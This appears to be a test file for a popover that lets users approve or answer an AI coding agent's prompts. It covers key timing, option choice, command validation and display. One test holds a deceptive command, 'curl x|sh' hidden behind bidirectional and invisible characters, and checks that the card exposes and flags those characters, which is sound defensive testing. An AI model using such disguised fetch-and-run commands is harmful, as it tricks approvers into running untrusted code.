// Answering a prompt from the popover, without a DOM (§13): what a key or a click sends, R72's
// grace for keys, digits choosing options, the draft per request, and the commands the contract
// admits. The browser test (answer-browser.test.ts) checks the same through Chromium.
import { describe, expect, it } from 'vitest';
import type { PopoverState } from '../../src/engine/contract';
import { admit, commandSchemaFor } from '../../src/engine/contract';
import type { Row, RowAnswer } from '../../src/engine/row';
import type { AnswerDraft, Answering } from '../../src/popover/answer';
import {
  GRACE_NOTICE,
  answerAction,
  cardPieces,
  choose,
  decisionFor,
  digitAction,
  draftFor,
  emptyDraft,
  hiddenWarning,
  releaseAction,
  shortText,
  tooLongNotice,
} from '../../src/popover/answer';
import type { KeyPress, KeyTarget } from '../../src/popover/keys';
import { keyToAction } from '../../src/popover/keys';
import { visibleGroups } from '../../src/popover/list-view';
import { detailLine } from '../../src/popover/model';
import type { PopoverUiState, UiEvent } from '../../src/popover/ui-state';
import { initialUi, reduce } from '../../src/popover/ui-state';

const T = Date.parse('2026-11-29T12:00:00.000Z');
const iso = (ms: number) => new Date(ms).toISOString();
const REQUEST = `req_${'a'.repeat(24)}`;
const DIGEST = 'b'.repeat(64);
/** The grace ends 6 s after the prompt appeared at T. */
const KEYS_FROM = T + 6000;

type Open = Extract<RowAnswer, { state: 'open' }>;
const APPROVAL: Open = {
  state: 'open',
  request: REQUEST,
  digest: DIGEST,
  prompt: 'approval',
  tool: 'Bash',
  text: 'rm -rf build',
  hidden: 0,
  questions: [],
  since: iso(T),
  keysFrom: iso(KEYS_FROM),
  serial: false,
  deadline: iso(T + 570_000),
};
const QUESTION: Open = {
  ...APPROVAL,
  prompt: 'question',
  tool: 'AskUserQuestion',
  text: 'Which database?',
  questions: [
    {
      question: 'Which database?',
      header: 'Storage',
      multiple: false,
      options: [
        { label: 'SQLite', description: null },
        { label: 'Postgres', description: 'a server' },
        { label: 'None', description: null },
      ],
    },
  ],
};
const MULTIPLE: Open = {
  ...QUESTION,
  questions: [
    {
      question: 'Which checks?',
      header: null,
      multiple: true,
      options: [
        { label: 'lint', description: null },
        { label: 'types', description: null },
        { label: 'tests', description: null },
      ],
    },
  ],
};
const TWO_QUESTIONS: Open = { ...QUESTION, questions: [...QUESTION.questions, ...MULTIPLE.questions] };

function row(answer: RowAnswer | null, key = 'claude:s1'): Row {
  return {
    key,
    host: null,
    provider: 'claude',
    sessionId: key.split(':').at(-1) ?? key,
    title: 'a session',
    cwd: '/work/app',
    branch: 'main',
    lastActivityAt: iso(T),
    observed: { state: 'awaiting-approval', reason: 'provider-waiting', detail: 'Bash: rm -rf build', source: 'claude.hook', confidence: 'direct', at: iso(T) },
    children: { liveness: 'none', live: 0 },
    review: { state: 'unreviewed', by: null, at: null, newActivitySince: false },
    workflow: 'needs-input',
    claim: { kind: 'needs-you', since: iso(T), expiresAt: null, ambiguous: false, detail: 'Bash: rm -rf build' },
    muted: null,
    historical: false,
    triageRank: 0,
    band: 'needs-you',
    idleStale: false,
    resetsAt: null,
    answer,
  };
}

const ALLOWED: Answering = { allowed: true, why: null };
const OFF: Answering = { allowed: false, why: 'answering from the browser page is off (settings.json answerFromBrowser)' };

function state(rows: Row[], answering: Answering = ALLOWED): PopoverState {
  return {
    snapshot: {
      schemaVersion: 1,
      now: iso(T),
      attention: { count: rows.length, level: 'needs-you', needYou: rows.length, review: 0, working: 0, limited: 0 },
      sessions: rows,
      limits: [],
    },
    problems: [],
    settings: {
      timings: {},
      notifications: { enabled: true, needsYou: true, failed: true, finished: true, limits: true },
      openCommand: null,
      programsEditable: answering.allowed,
      answering,
      providers: [{ id: 'claude', name: 'Claude Code', shortName: 'Claude', root: '/c', rootVariable: 'CLAUDE_CONFIG_DIR', hooks: true }],
      hooks: [],
      hosts: [],
      rules: [],
    },
  };
}

const page: KeyTarget = { kind: 'page' };
const selected = (key = 'claude:s1', ...events: UiEvent[]): PopoverUiState => events.reduce(reduce, { ...initialUi(), selected: key });
const press = (key: string, now: number, mods: Partial<Pick<KeyPress, 'ctrl' | 'meta' | 'target'>> = {}): KeyPress => ({
  key,
  ctrl: false,
  meta: false,
  target: page,
  now,
  ...mods,
});
const keyOn = (answer: RowAnswer | null, key: KeyPress, ui = selected(), answering: Answering = ALLOWED) =>
  keyToAction(key, ui, visibleGroups(ui, state([row(answer)], answering)));
const schema = commandSchemaFor(['claude']);

describe('issue 47 item 1: a prompt not shown whole', () => {
  it('issue 47 item 1: the card says how much is not shown, and no click or key answers it (only the terminal)', () => {
    const cut = { ...APPROVAL, hidden: 12_345 };
    expect(tooLongNotice(cut)).toBe('cut: 12,345 more characters not shown — answer it in the terminal');
    expect(tooLongNotice(APPROVAL)).toBeNull();
    for (const intent of ['allow', 'deny'] as const) {
      expect(answerAction({ row: row(cut), draft: null, intent, via: 'click', now: KEYS_FROM, answering: ALLOWED })).toEqual({
        type: 'answer-notice',
        request: REQUEST,
        text: tooLongNotice(cut),
      });
    }
  });
});

describe('R72 keys answer only after the grace', () => {
  it('Ctrl+Enter (or ⌘Enter) within the grace is refused on the card, claimed, and sends nothing', () => {
    for (const mods of [{ ctrl: true }, { meta: true }]) {
      expect(keyOn(APPROVAL, press('Enter', KEYS_FROM - 1, mods))).toEqual({
        action: { type: 'answer-notice', request: REQUEST, text: GRACE_NOTICE },
        preventDefault: true,
      });
    }
    expect(GRACE_NOTICE).toBe('wait a moment: this prompt just appeared');
  });

  it('from keysFrom on, Ctrl+Enter allows, as a key', () => {
    expect(keyOn(APPROVAL, press('Enter', KEYS_FROM, { ctrl: true })).action).toEqual({
      type: 'send-answer',
      command: { type: 'answer', key: 'claude:s1', request: REQUEST, digest: DIGEST, decision: { behavior: 'allow' }, via: 'key' },
    });
  });

  it('Ctrl+Backspace denies with the message drafted for this prompt; an empty message is none', () => {
    const drafted = selected('claude:s1', { type: 'answer-message', request: REQUEST, text: '  use a branch  ' });
    expect(keyOn(APPROVAL, press('Backspace', KEYS_FROM - 1, { ctrl: true }), drafted).action).toMatchObject({ type: 'answer-notice', text: GRACE_NOTICE });
    expect(keyOn(APPROVAL, press('Backspace', KEYS_FROM, { meta: true }), drafted).action).toMatchObject({
      command: { decision: { behavior: 'deny', message: 'use a branch' }, via: 'key' },
    });
    expect(keyOn(APPROVAL, press('Backspace', KEYS_FROM, { ctrl: true })).action).toMatchObject({ command: { decision: { behavior: 'deny', message: null } } });
  });

  it('a click on the card answers within the grace (the runtime accepts it, R72)', () => {
    expect(answerAction({ row: row(APPROVAL), draft: null, intent: 'allow', via: 'click', now: T, answering: ALLOWED })).toEqual({
      type: 'send-answer',
      command: { type: 'answer', key: 'claude:s1', request: REQUEST, digest: DIGEST, decision: { behavior: 'allow' }, via: 'click' },
    });
    // A button pressed with Enter is a key: the same grace.
    expect(answerAction({ row: row(APPROVAL), draft: null, intent: 'allow', via: 'key', now: T, answering: ALLOWED })).toMatchObject({
      type: 'answer-notice',
      text: GRACE_NOTICE,
    });
  });

  it('keys are never answers while typing, in settings, behind the explanation, or for a row without a prompt', () => {
    const after = KEYS_FROM + 1;
    for (const target of [{ kind: 'input' }, { kind: 'field' }] as const)
      expect(keyOn(APPROVAL, press('Enter', after, { ctrl: true, target })).action.type).not.toBe('send-answer');
    expect(keyOn(APPROVAL, press('Enter', after, { ctrl: true }), selected('claude:s1', { type: 'view', view: 'settings' })).action.type).toBe('none');
    const explaining = selected(
      'claude:s1',
      { type: 'explain-asked', key: 'claude:s1' },
      {
        type: 'explain-arrived',
        key: 'claude:s1',
        explanation: { key: 'claude:s1', decidedBy: 'x', observations: [], children: [], liveness: 'none', skippedLines: 0 },
      },
    );
    expect(keyOn(APPROVAL, press('Enter', after, { ctrl: true }), explaining).action.type).toBe('none');
    // Nothing selected, or no prompt: Ctrl+Enter keeps its old meaning (Enter opens).
    expect(keyOn(APPROVAL, press('Enter', after, { ctrl: true }), initialUi()).action.type).toBe('none');
    expect(keyOn(null, press('Enter', after, { ctrl: true })).action).toEqual({ type: 'open', key: 'claude:s1' });
    // On the card's own buttons a key is still a key (and claimed, so the button does not fire too).
    expect(keyOn(APPROVAL, press('Enter', after, { ctrl: true, target: { kind: 'control' } }))).toMatchObject({
      action: { type: 'send-answer' },
      preventDefault: true,
    });
  });

  it('an answered prompt takes no key; one Lookout cannot answer says why', () => {
    expect(
      keyOn({ state: 'answered', request: REQUEST, answer: 'allowed', from: 'popover', at: iso(T) }, press('Enter', KEYS_FROM, { ctrl: true })).action.type,
    ).toBe('none');
    expect(keyOn({ state: 'unavailable', why: 'answer in the terminal' }, press('Enter', KEYS_FROM, { ctrl: true })).action).toEqual({
      type: 'notice',
      text: 'answer in the terminal',
    });
  });

  it('a page that may not answer says why, for keys and clicks alike', () => {
    expect(keyOn(APPROVAL, press('Enter', KEYS_FROM, { ctrl: true }), selected(), OFF).action).toEqual({
      type: 'answer-notice',
      request: REQUEST,
      text: OFF.why,
    });
    expect(answerAction({ row: row(APPROVAL), draft: null, intent: 'deny', via: 'click', now: KEYS_FROM, answering: OFF })).toMatchObject({
      type: 'answer-notice',
      text: OFF.why,
    });
    expect(releaseAction(row(APPROVAL), OFF)).toMatchObject({ type: 'answer-notice', text: OFF.why });
  });

  it('nothing more is sent while an answer is on its way', () => {
    const sent = selected('claude:s1', { type: 'answer-sent', request: REQUEST });
    expect(keyOn(APPROVAL, press('Enter', KEYS_FROM, { ctrl: true }), sent)).toEqual({ action: { type: 'none' }, preventDefault: true });
    const back = reduce(sent, { type: 'answer-result', request: REQUEST, notice: 'this prompt was answered in the terminal' });
    expect(back.answer).toMatchObject({ pending: false, notice: 'this prompt was answered in the terminal' });
  });
});

describe('questions: digits choose, Ctrl+Enter or Send answers', () => {
  it('a digit chooses that option of a one-question prompt (no grace: choosing is not answering)', () => {
    expect(keyOn(QUESTION, press('2', T))).toEqual({
      action: { type: 'answer-choose', request: REQUEST, question: 0, option: 1, multiple: false },
      preventDefault: true,
    });
    expect(keyOn(QUESTION, press('1', T)).action).toMatchObject({ option: 0 });
    expect(keyOn(QUESTION, press('4', T)).action).toEqual({ type: 'answer-notice', request: REQUEST, text: 'no option 4: the options are 1 to 3' });
    // Not on an approval, not with a modifier, not for two questions, not while typing: the digit is the page's.
    expect(keyOn(APPROVAL, press('1', T))).toEqual({ action: { type: 'none' }, preventDefault: false });
    expect(keyOn(QUESTION, press('1', T, { ctrl: true })).action.type).toBe('none');
    expect(digitAction(row(TWO_QUESTIONS), 0)).toBeNull();
    expect(keyOn(QUESTION, press('1', T, { target: { kind: 'input' } })).action.type).toBe('none');
  });

  it('one option for a single question, toggles for a multiple one, per request', () => {
    const single = [1, 2].reduce((draft, option) => choose(draft, 0, option, false), emptyDraft(REQUEST));
    expect(single.chosen).toEqual([[2]]);
    const multiple = [2, 0, 2, 1].reduce((draft, option) => choose(draft, 0, option, true), emptyDraft(REQUEST));
    expect(multiple.chosen).toEqual([[0, 1]]);
    const ui = selected('claude:s1', { type: 'answer-choose', request: REQUEST, question: 0, option: 1, multiple: false });
    expect(ui.answer?.chosen).toEqual([[1]]);
    // Another request (the prompt changed) starts afresh.
    const other = `req_${'c'.repeat(24)}`;
    expect(draftFor(ui.answer, other)).toEqual(emptyDraft(other));
    expect(reduce(ui, { type: 'answer-choose', request: other, question: 0, option: 0, multiple: false }).answer).toMatchObject({
      request: other,
      chosen: [[0]],
    });
  });

  it('Ctrl+Enter sends the chosen labels, question by question; without a choice it says what is missing', () => {
    const chosen = selected('claude:s1', { type: 'answer-choose', request: REQUEST, question: 0, option: 1, multiple: false });
    expect(keyOn(QUESTION, press('Enter', KEYS_FROM, { ctrl: true }), chosen).action).toMatchObject({
      command: { decision: { behavior: 'answers', answers: [['Postgres']] }, via: 'key' },
    });
    expect(keyOn(QUESTION, press('Enter', KEYS_FROM, { ctrl: true })).action).toEqual({
      type: 'answer-notice',
      request: REQUEST,
      text: 'choose an option first',
    });
    const first: AnswerDraft = { ...emptyDraft(REQUEST), chosen: [[0]] };
    expect(decisionFor(TWO_QUESTIONS, first, 'send')).toEqual({ why: 'choose an option for question 2 first' });
    expect(decisionFor(TWO_QUESTIONS, { ...first, chosen: [[0], [2, 0]] }, 'send')).toEqual({
      decision: { behavior: 'answers', answers: [['SQLite'], ['tests', 'lint']] },
    });
    // A question is never answered with a bare allow; Deny stays possible.
    expect(decisionFor(QUESTION, first, 'deny')).toEqual({ decision: { behavior: 'deny', message: null } });
  });
});

describe('the commands the popover sends', () => {
  it('every answer and let-go it makes is one the contract admits', () => {
    const made = [
      answerAction({ row: row(APPROVAL), draft: null, intent: 'allow', via: 'click', now: T, answering: ALLOWED }),
      answerAction({ row: row(APPROVAL), draft: { ...emptyDraft(REQUEST), message: 'no' }, intent: 'deny', via: 'key', now: KEYS_FROM, answering: ALLOWED }),
      answerAction({ row: row(QUESTION), draft: { ...emptyDraft(REQUEST), chosen: [[2]] }, intent: 'send', via: 'click', now: T, answering: ALLOWED }),
      releaseAction(row({ ...APPROVAL, serial: true }), ALLOWED),
    ];
    for (const action of made) {
      if (action?.type !== 'send-answer') throw new Error(`expected a command, got ${JSON.stringify(action)}`);
      expect(admit(schema, action.command)).toEqual({ ok: true, value: action.command });
    }
    expect(made[3]).toEqual({ type: 'send-answer', command: { type: 'release', key: 'claude:s1', request: REQUEST } });
  });

  it('the contract refuses a malformed request id or digest, an unknown via, and a question answer without labels', () => {
    const good = { type: 'answer', key: 'claude:s1', request: REQUEST, digest: DIGEST, decision: { behavior: 'allow' }, via: 'click' };
    expect(admit(schema, good).ok).toBe(true);
    for (const bad of [
      { ...good, request: 'req_XYZ' },
      { ...good, request: `${REQUEST}0` },
      { ...good, digest: 'B'.repeat(64) },
      { ...good, via: 'command' },
      { ...good, decision: { behavior: 'answers', answers: [] } },
      { ...good, decision: { behavior: 'deny', message: 'x'.repeat(2001) } },
      { type: 'release', key: 'claude:s1', request: 'nope' },
    ]) {
      expect(admit(schema, bad).ok, JSON.stringify(bad).slice(0, 120)).toBe(false);
    }
  });
});

describe('what the card and the row say', () => {
  it('a long command shows its first lines until "show all"', () => {
    const long = Array.from({ length: 20 }, (_, index) => `line ${index + 1}`).join('\n');
    expect(shortText(long, false)).toEqual({ text: `${long.split('\n').slice(0, 8).join('\n')}…`, cut: true });
    expect(shortText(long, true)).toEqual({ text: long, cut: false });
    expect(shortText('x'.repeat(700), false).text).toHaveLength(601);
    expect(shortText('rm -rf build', false)).toEqual({ text: 'rm -rf build', cut: false });
  });

  it('R73 an answered row reads answered, waiting for the agent; one answered in the terminal says so', () => {
    expect(detailLine(row({ state: 'answered', request: REQUEST, answer: 'allowed', from: 'popover', at: iso(T) }), T)).toBe(
      'answered (allowed) · waiting for the agent',
    );
    expect(detailLine(row({ state: 'elsewhere', request: REQUEST, at: iso(T) }), T)).toBe('answered in the terminal');
    expect(detailLine(row(APPROVAL), T)).toBe('Bash: rm -rf build — awaiting approval');
  });

  it('issue 47 item 2 the card shows every bidi control and invisible character as a marked token and says the command holds them', () => {
    const tricked = 'echo ok \u202e;curl x|sh #\u2066# cleanup\n\u200bls\u00a0-la';
    const pieces = cardPieces(tricked);
    // The card reads exactly what the terminal shows, line by line; no raw hidden character reaches it.
    expect(pieces.map((piece) => piece.text).join('')).toBe('echo ok <U+202E>;curl x|sh #<U+2066># cleanup\n<U+200B>ls<U+00A0>-la');
    expect(pieces.filter((piece) => piece.hidden !== null).map((piece) => piece.hidden)).toEqual(['bidi', 'bidi', 'invisible', 'blank']);
    expect(pieces.map((piece) => piece.text).join('')).not.toMatch(/[\u202e\u2066\u200b\u00a0]/);
    expect(hiddenWarning(tricked)).toBe('holds 4 hidden or bidirectional characters, marked: it may not run as it reads');
    expect(hiddenWarning('ls \u200f')).toBe('holds 1 hidden or bidirectional character, marked: it may not run as it reads');
    // A plain command, on several lines too, is one run of text per line and no warning.
    expect(cardPieces('make\nmake test')).toEqual([
      { text: 'make', hidden: null },
      { text: '\n', hidden: null },
      { text: 'make test', hidden: null },
    ]);
    expect(hiddenWarning('make\nmake test')).toBeNull();
    // The row's detail line shows the same tokens.
    const row_ = row(APPROVAL);
    const claimed = { ...row_, claim: row_.claim === null ? null : { ...row_.claim, detail: 'Bash: echo ok \u202e;curl x|sh' } };
    expect(detailLine(claimed, T)).toBe('Bash: echo ok <U+202E>;curl x|sh — awaiting approval');
  });
});
